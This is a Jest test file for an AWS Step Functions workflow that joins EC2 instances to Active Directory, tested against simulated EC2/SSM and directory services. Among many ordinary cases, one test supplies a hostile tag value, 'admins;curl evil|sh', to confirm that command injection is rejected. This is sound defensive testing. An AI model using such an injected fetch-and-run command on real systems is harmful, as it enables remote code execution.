/**
 * The join state machine as synthesized by infra/ (the very ASL that is deployed), with the real
 * task handlers, over simulated EC2/SSM and directory on a virtual clock.
 */
import { statePath, timeline, type ExecutionRecord } from '../../engine';
import { Errors } from '../../tasks/lib/errors';
import { formatMarker } from '../../tasks/lib/marker';
import { computerName } from '../../tasks/lib/naming';
import { definitions, workflowWorld, type WorkflowWorld } from './world';

const ID = 'i-0123456789abcdef0';
const OPT_IN = { 'Domain:Join': 'true' };

const HAPPY_PATH = [
  'Read instance',
  'Opted in?',
  'Begin',
  'Begin verification',
  'Settle',
  'Wait for SSM Online',
  'Prepare computer object',
  'Run join document',
  'Wait for join command',
  'Check join command',
  'Join finished?',
  'Wait for join command',
  'Check join command',
  'Join finished?',
  'Verify NSS',
  'Wait for verification',
  'Check verification',
  'Verified?',
  'Record result',
  'Joined',
  'Done',
];

beforeAll(() => {
  definitions(); // synthesize once (CDK synth takes a few seconds)
}, 120_000);

function world(): WorkflowWorld {
  return workflowWorld(['join']);
}

const marker = (w: WorkflowWorld): string => formatMarker({ account: w.defs.account, region: w.defs.region, instanceId: ID });
const ours = (w: WorkflowWorld) => w.sim.directory.all().filter((o) => o.markerText === marker(w));
const retriesOf = (run: ExecutionRecord, state: string): number => timeline(run).filter((r) => r.state === state).reduce((n, r) => n + r.retries, 0);

describe('join workflow (synthesized ASL, real tasks, simulated world)', () => {
  test('happy path: joined, tagged, one object with our marker, the expected states in order', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN, ssmOnlineAfterSeconds: 90 });
    let otp: string | undefined;
    w.sim.fleet.before('deleteJoinSecret', (id, fleet) => {
      otp = fleet.parameter(`/adjoin/otp/${id}`);
    });

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-happy' });

    expect(run.status).toBe('SUCCEEDED');
    const name = computerName(ID, w.sim.settings.naming.prefix, 0);
    expect(run.output).toMatchObject({ outcome: 'joined', instanceId: ID, computerName: name });
    expect(run.output).toHaveProperty('commandId', w.sim.fleet.sentCommands().find((c) => c.request.document === 'join')?.commandId);
    expect(statePath(run)).toEqual(HAPPY_PATH);
    const objects = ours(w);
    expect(objects).toHaveLength(1);
    expect(objects[0]).toMatchObject({ name, dn: `CN=${name},${w.sim.settings.directory.computerOu}` });
    expect(w.sim.fleet.instance(ID)?.tags).toMatchObject({
      'adjoin:status': 'joined',
      'adjoin:computer-name': name,
      'adjoin:execution': 'join-happy',
    });
    expect(w.sim.fleet.parameterNames()).toEqual([]);
    // The one-time password went only through the parameter: never in a command or state data.
    expect(otp).toBeDefined();
    const join = w.sim.fleet.sentCommands().find((c) => c.request.document === 'join');
    expect(join?.request.parameters.OneTimePassword).toBe(`{{ssm-secure:/adjoin/otp/${ID}}}`);
    expect(JSON.stringify(run)).not.toContain(otp as string);
    expect(JSON.stringify(w.sim.fleet.sentCommands())).not.toContain(otp as string);
    // SSM came Online 90 s after launch: the state waited for it (60 s settle + retries).
    expect(retriesOf(run, 'Wait for SSM Online')).toBeGreaterThan(0);
  });

  test('not opted in: skipped, nothing created, nothing tagged', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: { Name: 'web' } });

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-skip' });

    expect(run.status).toBe('SUCCEEDED');
    expect(run.output).toMatchObject({ outcome: 'skipped', instanceId: ID });
    expect(statePath(run)).toEqual(['Read instance', 'Opted in?', 'Skipped', 'Done']);
    expect(w.sim.directory.all()).toEqual([]);
    expect(w.sim.fleet.instance(ID)?.tags).toEqual({ Name: 'web' });
    expect(w.sim.fleet.sentCommands()).toEqual([]);
  });

  test('a hostile login-group tag: fails AT "Read instance" with InvalidInput, nothing done', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: { ...OPT_IN, adGroupName: 'admins;curl evil|sh' } });

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-bad-tag' });

    expect(run.status).toBe('FAILED');
    expect(run.failedState).toBe('Read instance');
    expect(run.error).toBe(Errors.InvalidInput);
    expect(run.cause).toMatch(/adGroupName/);
    expect(statePath(run)).toEqual(['Read instance']);
    expect(w.sim.fleet.instance(ID)?.tags).toEqual({ ...OPT_IN, adGroupName: 'admins;curl evil|sh' });
    expect(w.sim.directory.calls).toEqual([]);
  });

  test('SSM never Online: fails AT "Wait for SSM Online" with SsmAgentNotOnline, nothing created', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN, ssmOnlineAfterSeconds: Infinity });

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-no-ssm' });

    expect(run.status).toBe('FAILED');
    expect(run.failedState).toBe('Wait for SSM Online');
    expect(run.error).toBe(Errors.SsmAgentNotOnline);
    expect(run.cause).toMatch(/SSM agent/);
    expect(run.cause).toMatch(/AmazonSSMManagedInstanceCore/);
    expect(w.sim.directory.all()).toEqual([]);
    expect(w.sim.directory.calls).toEqual([]);
    // It kept trying until the SSM-online deadline (virtual time), not a moment less.
    const row = timeline(run).find((r) => r.state === 'Wait for SSM Online');
    expect(row?.retries).toBeGreaterThan(5);
    expect(row?.durationMs).toBeGreaterThanOrEqual(w.sim.settings.timings.ssmOnlineDeadlineSeconds * 1000);
  });

  test('join command fails: fails at "Run join document" with JoinCommandFailed and its output', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.fleet.script('join', { status: 'Failed', exitCode: 3, durationSeconds: 15, stderr: 'adcli: Cannot resolve domain controller: DNS lookup failed' });

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-cmd-fails' });

    expect(run.status).toBe('FAILED');
    expect(run.failedState).toBe('Run join document');
    expect(run.error).toBe(Errors.JoinCommandFailed);
    expect(run.cause).toContain('Cannot resolve domain controller');
    expect(run.cause).toMatch(/exit code 3/);
    expect(statePath(run).slice(-4)).toEqual(['Wait for join command', 'Check join command', 'Join finished?', 'Run join document']);
  });

  test('verification fails: fails at "Verify NSS" with VerificationFailed and the probe output', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    // What infra/documents/verify.sh prints when a probe user does not resolve.
    w.sim.fleet.script('verify', {
      status: 'Failed',
      exitCode: 1,
      stdout: "adjoin: Admin does NOT resolve after 10 attempts\n  id Admin: id: 'Admin': no such user",
      stderr: 'adjoin: FAILED: Admin did not resolve through NSS: check that sssd runs',
    });

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-verify-fails' });

    expect(run.status).toBe('FAILED');
    expect(run.failedState).toBe('Verify NSS');
    expect(run.error).toBe(Errors.VerificationFailed);
    expect(run.cause).toContain('Admin does NOT resolve');
    expect(run.cause).toContain("id Admin: id: 'Admin': no such user");
    expect(run.cause).toContain('check that sssd runs');
    expect(w.sim.fleet.instance(ID)?.tags['adjoin:status']).toBe('joining');
  });

  test('duplicate event: the second execution finds it already joined; still exactly one object', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    const event = w.ec2Event(ID, 'running');

    const first = await w.engine.start('join', event, { name: 'join-dup-1' });
    const second = await w.engine.start('join', event, { name: 'join-dup-2' });

    expect(first.status).toBe('SUCCEEDED');
    expect(second.status).toBe('SUCCEEDED');
    expect(second.output).toMatchObject({ outcome: 'already-joined', instanceId: ID });
    expect(statePath(second)).toEqual(['Read instance', 'Opted in?', 'Already joined', 'Done']);
    expect(ours(w)).toHaveLength(1);
    expect(w.sim.fleet.sentCommands().filter((c) => c.request.document === 'join')).toHaveLength(1);
  });

  test('duplicate events racing (two executions at once): both end well, one object, the instance joined', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    const event = w.ec2Event(ID, 'running');

    const runs = await Promise.all([
      w.engine.start('join', event, { name: 'join-race-1' }),
      w.engine.start('join', event, { name: 'join-race-2' }),
    ]);

    expect(runs.map((r) => r.status)).toEqual(['SUCCEEDED', 'SUCCEEDED']);
    const outcomes = runs.map((r) => (r.output as { outcome?: string }).outcome);
    expect(outcomes).toContain('joined');
    expect(outcomes.every((o) => o === 'joined' || o === 'in-progress' || o === 'already-joined')).toBe(true);
    expect(ours(w)).toHaveLength(1);
    expect(w.sim.fleet.instance(ID)?.tags['adjoin:status']).toBe('joined');
    expect(w.sim.fleet.parameterNames()).toEqual([]);
  });

  test('name collision: a foreign object holds the first name, the second is used, the foreign one is untouched', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    const first = computerName(ID, w.sim.settings.naming.prefix, 0);
    const second = computerName(ID, w.sim.settings.naming.prefix, 1);
    const foreign = w.sim.directory.holdName(first);

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-collision' });

    expect(run.status).toBe('SUCCEEDED');
    expect(run.output).toMatchObject({ outcome: 'joined', computerName: second });
    expect(ours(w).map((o) => o.name)).toEqual([second]);
    expect(w.sim.directory.get(foreign.dn)).toEqual(foreign);
  });

  test('instance terminated mid-join: compensation removes the object and the secret, outcome abandoned', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.fleet.before('getCommand', () => w.sim.fleet.terminate(ID)); // gone while the join runs

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-terminated' });

    expect(run.status).toBe('SUCCEEDED');
    expect(run.output).toMatchObject({ outcome: 'abandoned', instanceId: ID });
    expect(statePath(run).slice(-4)).toEqual(['Check join command', 'Remove what the join made', 'Join abandoned', 'Done']);
    const caught = run.events.find((e) => e.type === 'StateCaught');
    expect(caught).toMatchObject({ state: 'Check join command', catch: { errorEquals: [Errors.InstanceGone], next: 'Remove what the join made' } });
    expect(ours(w)).toEqual([]);
    expect(w.sim.fleet.parameterNames()).toEqual([]);
  });

  test('directory down, then back: retried (visible in the event log) and joined', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.directory.down(3);

    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-dir-down' });

    expect(run.status).toBe('SUCCEEDED');
    expect(run.output).toMatchObject({ outcome: 'joined' });
    const failures = run.events.filter((e) => e.type === 'StateFailed' && e.state === 'Prepare computer object');
    const retries = run.events.filter((e) => e.type === 'StateRetried' && e.state === 'Prepare computer object');
    expect(failures.map((e) => e.error)).toEqual([Errors.DirectoryUnavailable, Errors.DirectoryUnavailable, Errors.DirectoryUnavailable]);
    expect(retries).toHaveLength(3);
    // TransientErrors policy: 5 s, x2 (no jitter in virtual time) → 5, 10, 20 s.
    expect(retries.map((e) => e.retry?.delaySeconds)).toEqual([5, 10, 20]);
    expect(retries[0]?.retry?.errorEquals).toContain(Errors.DirectoryUnavailable);
    expect(ours(w)).toHaveLength(1);
  });

  test('redrive after the join command failed: resumes AT "Run join document", sends anew, completes', async () => {
    const w = world();
    w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN });
    w.sim.fleet.script('join', { status: 'Failed', exitCode: 3, stderr: 'adcli: Cannot resolve domain controller' });
    const failed = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-redrive' });
    expect(failed.status).toBe('FAILED');
    expect(failed.failedState).toBe('Run join document');

    // The operator fixes DNS (the next join command succeeds), an hour later.
    w.sim.clock.advance(3600);
    const run = await w.engine.redrive(failed);

    expect(run.status).toBe('SUCCEEDED');
    expect(run.name).toBe('join-redrive');
    expect(run.redriveCount).toBe(1);
    expect(run.redrives).toEqual([expect.objectContaining({ redriveCount: 1, fromState: 'Run join document' })]);
    expect(statePath(run, { part: 1 })[0]).toBe('Run join document');
    expect(statePath(run, { part: 0 })).toEqual(statePath(failed));
    expect(run.output).toMatchObject({ outcome: 'joined' });
    expect(w.sim.fleet.sentCommands().filter((c) => c.request.document === 'join')).toHaveLength(2);
    expect(ours(w)).toHaveLength(1);
  });

  test('redrive after SSM never came Online: resumes AT "Wait for SSM Online" once the agent is fixed', async () => {
    const w = world();
    const inst = w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN, ssmOnlineAfterSeconds: Infinity });
    const failed = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-redrive-ssm' });
    expect(failed.failedState).toBe('Wait for SSM Online');

    inst.ssmOnlineAfterSeconds = 0; // the operator attached the instance profile
    const run = await w.engine.redrive(failed);

    expect(run.status).toBe('SUCCEEDED');
    expect(statePath(run, { part: 1 })[0]).toBe('Wait for SSM Online');
    expect(statePath(run, { part: 1 })).not.toContain('Read instance');
    expect(run.events.some((e) => e.type === 'ExecutionRedriven' && e.state === 'Wait for SSM Online')).toBe(true);
    expect(ours(w)).toHaveLength(1);
  });
});
